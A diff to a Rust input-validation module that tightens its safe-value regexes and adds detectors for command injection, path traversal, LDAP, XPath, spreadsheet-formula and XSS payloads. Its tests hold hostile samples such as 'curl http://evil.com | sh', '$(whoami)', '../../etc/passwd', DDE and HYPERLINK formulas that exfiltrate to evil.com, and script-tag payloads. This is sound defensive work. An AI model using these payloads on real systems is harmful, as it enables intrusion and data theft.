@@ -1,3 +1,4 @@
+use crate::enums::severity::Severity;
 use crate::utils::regex::safe_regex::{
     get_datetime_regex, get_email_regex, get_numeric_regex, get_phone_number_regex,
     get_simple_word_regex,
@@ -7,12 +8,12 @@ use regex::RegexSet;
 pub mod safe_regex {
     use regex::Regex;
 
-    /// Date and time pattern, supporting various formats
+    /// Date and time pattern, supporting various formats, matching the whole value
     #[inline]
     #[must_use]
     pub fn get_datetime_regex() -> Regex {
         Regex::new(
-            r"(?i)\b(?:\d{4}[-/]\d{2}[-/]\d{2}|\d{2}[-/]\d{2}[-/]\d{4})\s?(?:\d{2}[:]\d{2}[:]\d{2})?\b",
+            r"(?i)^(?:\d{4}[-/]\d{2}[-/]\d{2}|\d{2}[-/]\d{2}[-/]\d{4})(?:[\sT]?\d{2}:\d{2}:\d{2})?\s*$",
         )
             .unwrap()
     }
@@ -24,31 +25,33 @@ pub mod safe_regex {
         Regex::new(r"^[-.]?\d+([.,]\d*)?\s*$").unwrap()
     }
 
-    /// Email pattern, case-insensitive, allowing for common email formats
+    /// Email pattern, case-insensitive, allowing for common email formats and matching the whole value
     #[inline]
     #[must_use]
     pub fn get_email_regex() -> Regex {
-        Regex::new(r"(?i)\b[A-Z0-9._%+-]+@[A-Z0-9.-]+\.[A-Za-z]{2,}\b").unwrap()
+        Regex::new(r"(?i)^[A-Z0-9._%+-]+@[A-Z0-9.-]+\.[A-Z]{2,}$").unwrap()
     }
 
-    /// Simple word pattern, allowing only letters (case-insensitive)
+    /// Simple word pattern, allowing only letters of any script with their combining accents
     #[inline]
     #[must_use]
     pub fn get_simple_word_regex() -> Regex {
-        Regex::new("^[A-Za-z]+$").unwrap()
+        Regex::new(r"^[\p{L}\p{M}]+$").unwrap()
     }
 
-    /// Phone number pattern, allowing for international formats
+    /// Phone number pattern, allowing for international formats with spaces, dots, dashes and parentheses as
+    /// separators, and matching the whole value so that a number followed by anything else is not allowed
     #[inline]
     #[must_use]
     pub fn get_phone_number_regex() -> Regex {
-        Regex::new("[+]?[0-9]{1,2}").unwrap()
+        Regex::new(r"^\+?\(?\d[\d ().-]{4,18}\d$").unwrap()
     }
 
     #[cfg(test)]
     mod test {
         use crate::utils::regex::safe_regex::{
-            get_datetime_regex, get_email_regex, get_numeric_regex, get_simple_word_regex,
+            get_datetime_regex, get_email_regex, get_numeric_regex, get_phone_number_regex,
+            get_simple_word_regex,
         };
         use regex::Regex;
 
@@ -72,7 +75,13 @@ pub mod safe_regex {
 
         #[tokio::test]
         async fn test_invalid_dates() {
-            const INVALID_DATES: [&str; 3] = ["random text", "not a date", "is it a date?"];
+            const INVALID_DATES: [&str; 5] = [
+                "random text",
+                "not a date",
+                "is it a date?",
+                "2024-02-03; DROP TABLE users",
+                "<script>2024-02-03</script>",
+            ];
             let regex: Regex = get_datetime_regex();
 
             for date in &INVALID_DATES {
@@ -135,13 +144,14 @@ pub mod safe_regex {
 
         #[tokio::test]
         async fn test_invalid_emails() {
-            const INVALID_EMAILS: [&str; 6] = [
+            const INVALID_EMAILS: [&str; 7] = [
                 "plainaddress",
                 "@missinguser.com",
                 "user@.com",
                 "user@com",
                 "user@domain,com",
                 "user domain.com",
+                "a@b.com' OR '1'='1",
             ];
 
             let regex: Regex = get_email_regex();
@@ -151,14 +161,34 @@ pub mod safe_regex {
             }
         }
 
+        #[tokio::test]
+        async fn test_phone_numbers() {
+            const VALID_PHONES: [&str; 4] = [
+                "+33 6 12 34 56 78",
+                "(555) 123-4567",
+                "06.12.34.56.78",
+                "+1-202-555-0123",
+            ];
+            const INVALID_PHONES: [&str; 4] =
+                ["1; DROP TABLE users", "12", "+1 <script>", "((((((("];
+
+            let regex: Regex = get_phone_number_regex();
+
+            for phone in &VALID_PHONES {
+                assert!(regex.is_match(phone), "Erreur sur: {phone}");
+            }
+            for phone in &INVALID_PHONES {
+                assert!(!regex.is_match(phone), "Erreur sur: {phone}");
+            }
+        }
+
         #[tokio::test]
         async fn test_get_simple_word_regex() {
-            const VALID_WORD: [&str; 6] = [
+            const VALID_WORD: [&str; 5] = [
                 "hello-world",
                 "hello_world",
                 "hello#world",
                 "hello123world",
-                "HéLLO",
                 "NUMERI:",
             ];
 
@@ -167,18 +197,83 @@ pub mod safe_regex {
             for email in &VALID_WORD {
                 assert!(!regex.is_match(email), "Erreur sur: {email}");
             }
+
+            const PLAIN_WORDS: [&str; 5] =
+                ["HéLLO", "Hélène", "He\u{301}le\u{300}ne", "Łódź", "Москва"];
+            for word in &PLAIN_WORDS {
+                assert!(regex.is_match(word), "Erreur sur: {word}");
+            }
         }
     }
 }
 
 pub mod usafe_regex {
-    /// Matches SQL keywords that could indicate an injection attempt
+    /// Matches SQL keywords, a weak signal of an injection attempt as they are common in business text
     #[inline]
     #[must_use]
     pub const fn sql_keyword_regex() -> &'static str {
         r"(?i)\b(SELECT|INSERT|UPDATE|DELETE|DROP|TRUNCATE|EXEC|UNION|ALTER|CREATE|REPLACE|MERGE|CALL|DECLARE|CAST)\b"
     }
 
+    /// Matches a shell command chained after `;`, `&&`, `||` or a pipe, such as `; rm -rf /` or `&& curl http://...`.
+    /// Commands that are also common words, such as `sleep` or `id`, need an argument, a pipe or a redirection,
+    /// so that "Eat; sleep; repeat" or "Name | id" is not matched
+    #[inline]
+    #[must_use]
+    pub const fn command_chaining_regex() -> &'static str {
+        r#"(?:;|&&|\|\|?)\s*(?:(?:rm|curl|wget|nc|ncat|netcat|bash|sh|zsh|powershell|pwsh|cmd|python3?|perl|php|ruby|chmod|chown|whoami|uname|nslookup|mkfifo|telnet|sudo)(?:\s+(?:[-/.~$'"]|https?:)|\s*[|;&>]|\s*$)|(?:cat|id|ls|echo|ping|sleep|kill|eval|exec)(?:\s+(?:[-/.~$'"0-9]|https?:)|\s*[|&>]))"#
+    }
+
+    /// Matches a shell command substitution, such as `$(whoami)` or a shell command between backticks,
+    /// the substitution starting with a known command so that "$(1,200)" is not matched
+    #[inline]
+    #[must_use]
+    pub const fn command_substitution_regex() -> &'static str {
+        r"\$\(\s*(?:rm|cat|curl|wget|nc|bash|sh|python3?|perl|php|id|whoami|uname|ls|echo|ping|sleep)\b[^)]*\)|`\s*(?:rm|cat|curl|wget|nc|bash|sh|python3?|perl|php|id|whoami|uname|ls|echo|ping|sleep)\b[^`]*`"
+    }
+
+    /// Matches a `../` or `..\` path segment climbing out of a directory
+    #[inline]
+    #[must_use]
+    pub const fn path_dot_segment_regex() -> &'static str {
+        r"\.\.[/\\]"
+    }
+
+    /// Matches a `../` or `..\` path segment with a URL encoded or overlong UTF-8 encoded dot or separator
+    #[inline]
+    #[must_use]
+    pub const fn path_encoded_segment_regex() -> &'static str {
+        r"(?i)(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e|%uff0e)(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e|%uff0e|\.)(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|[/\\])|\.(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e|%uff0e)(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|[/\\])|\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c)"
+    }
+
+    /// Matches a NUL byte, raw or encoded, truncating a file name or a string where it is read by C code
+    #[inline]
+    #[must_use]
+    pub const fn null_byte_regex() -> &'static str {
+        r"\x00|%00|\\x00|\\u0000"
+    }
+
+    /// Matches a parenthesis closing an LDAP filter to open another one, such as `*)(uid=*` or `)(|(`
+    #[inline]
+    #[must_use]
+    pub const fn ldap_filter_regex() -> &'static str {
+        r"\)\s*\(\s*[|&!]|\*\s*\)\s*\(\s*[\w-]+\s*[~<>]?="
+    }
+
+    /// Matches a quote closing an XPath predicate to select other nodes, such as `']|//*|//*['`
+    #[inline]
+    #[must_use]
+    pub const fn xpath_union_regex() -> &'static str {
+        r#"['"]\s*\]\s*\|\s*/"#
+    }
+
+    /// Matches XPath functions walking the document, such as `count(/child::node())` or `name(/*[1])`
+    #[inline]
+    #[must_use]
+    pub const fn xpath_function_regex() -> &'static str {
+        r"(?i)\b(?:count|name|local-name|string-length|substring)\s*\(\s*(?:/|\.\.?/|\*)|\b(?:child|parent|ancestor|descendant|following|preceding|attribute)(?:-or-self|-sibling)?::"
+    }
+
     /// Matches any suspicious or illegal character
     #[inline]
     #[must_use]
@@ -186,10 +281,67 @@ pub mod usafe_regex {
         r"[^\w\s]"
     }
 
+    /// Matches formulas starting a DDE link to another program, such as `=cmd|' /C calc'!A0` or `=DDE(...)`,
+    /// the program being followed by its quoted topic so that "- Sales | Marketing!" is not matched
+    #[inline]
+    #[must_use]
+    pub const fn formula_dde_regex() -> &'static str {
+        r"(?i)^[=+\-@\t\r].*(?:\b[a-z0-9_.]+\s*\|\s*'[^']*'\s*!|\bDDE(?:AUTO)?\s*\()"
+    }
+
+    /// Matches formulas calling a function able to send data out of the spreadsheet or to run code
+    #[inline]
+    #[must_use]
+    pub const fn formula_exfiltration_regex() -> &'static str {
+        r"(?i)^[=+\-@\t\r].*\b(?:HYPERLINK|WEBSERVICE|IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED|IMPORTRANGE|IMAGE|FILTERXML|CALL|REGISTER|EXEC)\s*\("
+    }
+
+    /// Matches formulas starting with a function call, such as `=SUM(A1:A3)` or `@IF(...)`
+    #[inline]
+    #[must_use]
+    pub const fn formula_function_regex() -> &'static str {
+        r"(?i)^[=+\-@\t\r][\s=+\-@]*[a-z_][a-z0-9_.]*\("
+    }
+
+    /// Matches opening or closing script tags
+    #[inline]
+    #[must_use]
+    pub const fn xss_script_tag_regex() -> &'static str {
+        r"(?i)<\s*/?\s*script\b"
+    }
+
+    /// Matches event handler attributes inside a tag, or after a quote closing an attribute value
+    #[inline]
+    #[must_use]
+    pub const fn xss_event_handler_regex() -> &'static str {
+        r#"(?i)(?:<[a-z][^>]*?[\s/"']|["'][\s/]*)on[a-z]+\s*="#
+    }
+
+    /// Matches URIs running a script, such as `javascript:` or HTML given as `data:` URI
+    #[inline]
+    #[must_use]
+    pub const fn xss_javascript_uri_regex() -> &'static str {
+        r"(?i)\b(?:java|vb|live)[\t\r\n]*script[\t\r\n]*:|\bdata\s*:\s*text/html\b"
+    }
+
+    /// Matches SVG and MathML elements, which run scripts through their own tags and attributes
+    #[inline]
+    #[must_use]
+    pub const fn xss_svg_regex() -> &'static str {
+        r"(?i)<\s*(?:svg|math)\b"
+    }
+
+    /// Matches tags loading or embedding other content in the page
+    #[inline]
+    #[must_use]
+    pub const fn xss_embedding_tag_regex() -> &'static str {
+        r"(?i)<\s*(?:iframe|frame|frameset|object|embed|applet|base|meta|link|style|form)\b"
+    }
+
     #[cfg(test)]
     mod test {
         use super::*;
-        use regex::Regex;
+        use regex::{Regex, RegexSet};
 
         #[tokio::test]
         async fn test_sql_keyword_regex() {
@@ -209,7 +361,6 @@ pub mod usafe_regex {
                 .map_err(|e| {
                     println!("Failed to create regex: {}", e);
                     e
-
                 })
                 .unwrap();
             const ILLEGAL_CHARS: [&str; 5] = [
@@ -224,30 +375,355 @@ pub mod usafe_regex {
                 assert!(regex.is_match(char), "Error on : {char}");
             }
         }
+
+        #[tokio::test]
+        async fn test_command_and_path_regex() {
+            let command: RegexSet =
+                RegexSet::new([command_chaining_regex(), command_substitution_regex()]).unwrap();
+            let path: RegexSet = RegexSet::new([
+                path_dot_segment_regex(),
+                path_encoded_segment_regex(),
+                null_byte_regex(),
+            ])
+            .unwrap();
+
+            const COMMANDS: [&str; 8] = [
+                "file.txt; rm -rf /",
+                "x && curl http://evil.com | sh",
+                "a || id > /tmp/out",
+                "name; sleep 10",
+                "x | echo $PATH",
+                "$(whoami)",
+                "$( cat /etc/passwd )",
+                "`cat /etc/passwd`",
+            ];
+            for value in &COMMANDS {
+                assert!(command.is_match(value), "Error on : {value}");
+            }
+
+            const PATHS: [&str; 6] = [
+                "../../etc/passwd",
+                "..\\..\\windows\\win.ini",
+                "%2e%2e%2fetc",
+                "..%252f..%252f",
+                "%c0%ae%c0%ae/",
+                "report.pdf%00.jpg",
+            ];
+            for value in &PATHS {
+                assert!(path.is_match(value), "Error on : {value}");
+            }
+
+            const NOT_INJECTIONS: [&str; 10] = [
+                "Tom && Jerry",
+                "Terms; cat lovers welcome",
+                "Prices from $10 (excl. tax)",
+                "Wait... ok",
+                "50% off",
+                "Total: $(1,200)",
+                "Eat; sleep; repeat",
+                "Work hard; sleep",
+                "Name | id",
+                "Echo; echo",
+            ];
+            for value in &NOT_INJECTIONS {
+                assert!(!command.is_match(value), "Error on : {value}");
+                assert!(!path.is_match(value), "Error on : {value}");
+            }
+        }
+
+        #[tokio::test]
+        async fn test_ldap_and_xpath_regex() {
+            let ldap: Regex = Regex::new(ldap_filter_regex()).unwrap();
+            let xpath: RegexSet =
+                RegexSet::new([xpath_union_regex(), xpath_function_regex()]).unwrap();
+
+            assert!(ldap.is_match("*)(uid=*))(|(uid=*"));
+            assert!(ldap.is_match("admin)(&)"));
+            assert!(ldap.is_match("x)(!(objectClass=*)"));
+            assert!(!ldap.is_match("John (admin) (team lead)"));
+
+            assert!(xpath.is_match("']|//*|//*['"));
+            assert!(xpath.is_match("count(/child::node())"));
+            assert!(xpath.is_match("name(/*[1])"));
+            assert!(!xpath.is_match("My name (Bob) and a count (3)"));
+        }
+
+        #[tokio::test]
+        async fn test_xss_regex() {
+            let regex_set: RegexSet = RegexSet::new([
+                xss_script_tag_regex(),
+                xss_event_handler_regex(),
+                xss_javascript_uri_regex(),
+                xss_svg_regex(),
+                xss_embedding_tag_regex(),
+            ])
+            .unwrap();
+
+            const PAYLOADS: [(&str, usize); 7] = [
+                ("<script>alert('XSS')</script>", 0),
+                ("<img src=x onerror=alert(1)>", 1),
+                ("\" onmouseover=\"alert(1)", 1),
+                ("<a href='javascript:alert(1)'>", 2),
+                ("data:text/html;base64,PHNjcmlwdD4=", 2),
+                ("<svg><animate attributeName=href>", 3),
+                ("<iframe src=//evil.com>", 4),
+            ];
+            for (payload, index) in &PAYLOADS {
+                assert!(
+                    regex_set.matches(payload).matched(*index),
+                    "Error on : {payload}"
+                );
+            }
+
+            const NOT_PAYLOADS: [&str; 4] = [
+                "once upon a time",
+                "online=yes",
+                "a < b and c > d",
+                "Description: javascripts are fun",
+            ];
+            for value in &NOT_PAYLOADS {
+                assert!(!regex_set.is_match(value), "Error on : {value}");
+            }
+        }
+
+        #[tokio::test]
+        async fn test_formula_regex() {
+            let dde: Regex = Regex::new(formula_dde_regex()).unwrap();
+            let exfiltration: Regex = Regex::new(formula_exfiltration_regex()).unwrap();
+            let function: Regex = Regex::new(formula_function_regex()).unwrap();
+
+            assert!(dde.is_match("=cmd|' /C calc'!A0"));
+            assert!(dde.is_match("@SUM(1+1)*cmd|' /C calc'!A0"));
+            assert!(dde.is_match("=DDE(\"cmd\";\"/C calc\";\"!A0\")"));
+            assert!(dde.is_match("-msexcel|'\\..\\..\\cmd.exe /c calc.exe'!''"));
+            assert!(exfiltration.is_match("=HYPERLINK(\"http://evil.com?\"&A1, \"Click\")"));
+            assert!(exfiltration.is_match("+1+WEBSERVICE(\"http://evil.com\")"));
+            assert!(function.is_match("\t=SUM(A1:A3)"));
+            assert!(function.is_match("-IF(1,2)"));
+
+            const NOT_FORMULAS: [&str; 7] = [
+                "-12.5",
+                "+33 (0)1 23 45 67",
+                "@john",
+                "a=HYPERLINK(x)",
+                "=1+1",
+                "- Sales | Marketing!",
+                "-5 | great!",
+            ];
+            for value in &NOT_FORMULAS {
+                assert!(!dde.is_match(value), "Error on : {value}");
+                assert!(!exfiltration.is_match(value), "Error on : {value}");
+                assert!(!function.is_match(value), "Error on : {value}");
+            }
+        }
     }
 }
 
-/// Return a `RegexSet` for unsafe values
+/// Return the names and the patterns of the safe values, in the order of `get_safe_regex_set`
+#[inline]
+#[must_use]
+pub fn safe_value_patterns() -> [(&'static str, String); 5] {
+    [
+        ("numeric_regex", String::from(get_numeric_regex().as_str())),
+        (
+            "datetime_regex",
+            String::from(get_datetime_regex().as_str()),
+        ),
+        ("email_regex", String::from(get_email_regex().as_str())),
+        (
+            "simple_word_regex",
+            String::from(get_simple_word_regex().as_str()),
+        ),
+        (
+            "phone_number_regex",
+            String::from(get_phone_number_regex().as_str()),
+        ),
+    ]
+}
+
+/// Return a `RegexSet` for safe values
 #[inline]
 #[must_use]
 pub fn get_safe_regex_set() -> RegexSet {
-    RegexSet::new([
-        get_numeric_regex().as_str(),
-        get_datetime_regex().as_str(),
-        get_email_regex().as_str(),
-        get_simple_word_regex().as_str(),
-        get_phone_number_regex().as_str(),
-    ])
-    .unwrap()
+    RegexSet::new(safe_value_patterns().map(|(_, pattern)| pattern)).unwrap()
+}
+
+/// Return the names, the patterns and the severities of the unsafe values, in the order of `get_unsafe_value_regex_set`
+#[inline]
+#[must_use]
+pub const fn unsafe_value_patterns() -> [(&'static str, &'static str, Severity); 2] {
+    [
+        (
+            "sql_keyword_regex",
+            usafe_regex::sql_keyword_regex(),
+            Severity::Low,
+        ),
+        (
+            "illegal_char_regex",
+            usafe_regex::illegal_char_regex(),
+            Severity::Low,
+        ),
+    ]
+}
+
+/// Return the names, the patterns and the severities of the spreadsheet formulas reported by the formula detector
+#[inline]
+#[must_use]
+pub const fn formula_injection_patterns() -> [(&'static str, &'static str, Severity); 3] {
+    [
+        (
+            "dde_payload",
+            usafe_regex::formula_dde_regex(),
+            Severity::High,
+        ),
+        (
+            "exfiltration_function",
+            usafe_regex::formula_exfiltration_regex(),
+            Severity::High,
+        ),
+        (
+            "function_call",
+            usafe_regex::formula_function_regex(),
+            Severity::Medium,
+        ),
+    ]
+}
+
+/// Return the names, the patterns and the severities of the HTML and JavaScript payloads reported by the XSS detector
+#[inline]
+#[must_use]
+pub const fn xss_payload_patterns() -> [(&'static str, &'static str, Severity); 5] {
+    [
+        (
+            "script_tag",
+            usafe_regex::xss_script_tag_regex(),
+            Severity::High,
+        ),
+        (
+            "event_handler",
+            usafe_regex::xss_event_handler_regex(),
+            Severity::High,
+        ),
+        (
+            "javascript_uri",
+            usafe_regex::xss_javascript_uri_regex(),
+            Severity::High,
+        ),
+        (
+            "svg_payload",
+            usafe_regex::xss_svg_regex(),
+            Severity::Medium,
+        ),
+        (
+            "embedding_tag",
+            usafe_regex::xss_embedding_tag_regex(),
+            Severity::Medium,
+        ),
+    ]
+}
+
+/// Return the names, the patterns and the severities of the shell commands reported by the command detector
+#[inline]
+#[must_use]
+pub const fn command_injection_patterns() -> [(&'static str, &'static str, Severity); 2] {
+    [
+        (
+            "command_chaining",
+            usafe_regex::command_chaining_regex(),
+            Severity::High,
+        ),
+        (
+            "command_substitution",
+            usafe_regex::command_substitution_regex(),
+            Severity::High,
+        ),
+    ]
+}
+
+/// Return the names, the patterns and the severities of the paths reported by the path traversal detector
+#[inline]
+#[must_use]
+pub const fn path_traversal_patterns() -> [(&'static str, &'static str, Severity); 3] {
+    [
+        (
+            "dot_segment",
+            usafe_regex::path_dot_segment_regex(),
+            Severity::Medium,
+        ),
+        (
+            "encoded_dot_segment",
+            usafe_regex::path_encoded_segment_regex(),
+            Severity::High,
+        ),
+        ("null_byte", usafe_regex::null_byte_regex(), Severity::High),
+    ]
+}
+
+/// Return the names, the patterns and the severities of the LDAP filters reported by the LDAP detector
+#[inline]
+#[must_use]
+pub const fn ldap_injection_patterns() -> [(&'static str, &'static str, Severity); 1] {
+    [(
+        "filter_injection",
+        usafe_regex::ldap_filter_regex(),
+        Severity::High,
+    )]
+}
+
+/// Return the names, the patterns and the severities of the XPath fragments reported by the XPath detector
+#[inline]
+#[must_use]
+pub const fn xpath_injection_patterns() -> [(&'static str, &'static str, Severity); 2] {
+    [
+        (
+            "node_union",
+            usafe_regex::xpath_union_regex(),
+            Severity::High,
+        ),
+        (
+            "document_function",
+            usafe_regex::xpath_function_regex(),
+            Severity::Medium,
+        ),
+    ]
 }
 
 /// Return a `RegexSet` for unsafe values
 #[inline]
 #[must_use]
 pub fn get_unsafe_value_regex_set() -> RegexSet {
-    RegexSet::new([
-        usafe_regex::sql_keyword_regex(),
-        usafe_regex::illegal_char_regex(),
-    ])
-    .unwrap()
+    RegexSet::new(unsafe_value_patterns().map(|(_, pattern, _)| pattern)).unwrap()
+}
+
+/// Return the names of the unsafe patterns of the `RegexSet` matching the value
+#[must_use]
+pub fn matching_unsafe_patterns(unsafe_regex_set: &RegexSet, value: &str) -> Vec<String> {
+    let patterns: [(&str, &str, Severity); 2] = unsafe_value_patterns();
+
+    unsafe_regex_set
+        .matches(value)
+        .iter()
+        .filter_map(|index| patterns.get(index))
+        .map(|(name, _, _)| String::from(*name))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[tokio::test]
+    async fn test_matching_unsafe_patterns() {
+        let regex_set: RegexSet = get_unsafe_value_regex_set();
+
+        assert_eq!(
+            matching_unsafe_patterns(&regex_set, "DROP TABLE x;"),
+            ["sql_keyword_regex", "illegal_char_regex"]
+        );
+        assert_eq!(
+            matching_unsafe_patterns(&regex_set, "<script>"),
+            ["illegal_char_regex"]
+        );
+        assert!(matching_unsafe_patterns(&regex_set, "hello world").is_empty());
+    }
 }